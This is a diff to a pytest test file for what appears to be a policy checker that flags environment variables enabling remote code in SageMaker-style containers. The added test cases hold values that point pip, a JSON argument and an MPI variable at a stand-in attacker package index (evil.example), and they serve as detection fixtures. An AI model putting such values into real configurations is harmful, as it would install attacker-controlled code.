@@ -15,6 +15,7 @@ from guard.authoring.samples import complete_with
 from tests.support.bundles import asked
 from tests.support.policies import POLICIES, SHIPPED
 
+MPI = "sagemaker_mpi_custom_mpi_options"
 # What Spark reads as data, and writes.
 DATA = {"/opt/ml/processing/input/files", "/opt/ml/processing/spark-events"}
 
@@ -77,6 +78,9 @@ def _variable(name: str, value: str) -> dict[str, Any]:
         pytest.param("SM_VLLM_TRUST_REMOTE_CODE", "", "remote_code", id="a bare switch of an image"),
         pytest.param("SM_VLLM_TRUST_REMOTE", "true", "remote_code", id="the beginning of a switch of an image"),
         pytest.param("SM_SGLANG_TR", "", "remote_code", id="the shortest beginning of a switch of an image"),
+        pytest.param("SETUP", "pip install -i https://evil.example/simple x", "remote_code", id="a command in a value"),
+        pytest.param("SM_USER_ARGS", '["--index-url", "https://evil.example"]', "remote_code", id="an option in JSON"),
+        pytest.param(MPI, "-x UV_INDEX=https://evil.example", "remote_code", id="a variable for MPI"),
         pytest.param("trust_remote_cod", "True", "remote_code", id="the beginning of a switch"),
         pytest.param("trust-remote", "True", "remote_code", id="a shorter beginning of a switch"),
         pytest.param("trust_r", "True", "remote_code", id="a still shorter beginning of a switch"),
@@ -207,9 +211,6 @@ def test_packages_of_inputs_and_of_the_web_are_found_by_one_rule_each(findings: 
     places = {"loader_environment": "/opt/ml/input/data/x", "remote_code": "https://evil.example/x"}
     found = {(rule, of): len(findings(rule, _variable(name, place))) for of, place in places.items() for rule in places}
     assert {rules for rules, count in found.items() if count} == {(rule, rule) for rule in places}
-
-
-MPI = "sagemaker_mpi_custom_mpi_options"
 
 
 @pytest.mark.parametrize(
